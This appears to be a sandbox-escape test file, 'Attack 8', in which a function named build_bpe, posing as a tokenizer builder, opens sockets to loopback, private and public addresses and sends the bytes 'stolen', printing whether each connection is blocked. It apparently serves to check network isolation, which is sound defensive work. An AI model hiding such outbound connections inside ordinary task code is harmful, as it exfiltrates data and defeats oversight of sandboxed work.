# Attack 8: phone home, loopback included.
import socket


def build_bpe(corpus, max_vocab_size):
    for host, port in (("127.0.0.1", {PORT}), ("10.0.0.1", 80), ("8.8.8.8", 53)):
        try:
            socket.create_connection((host, port), timeout=2).sendall(b"stolen")
            print("CONNECTED", host, port)
        except OSError as exc:
            print("blocked", host, type(exc).__name__)
    return []
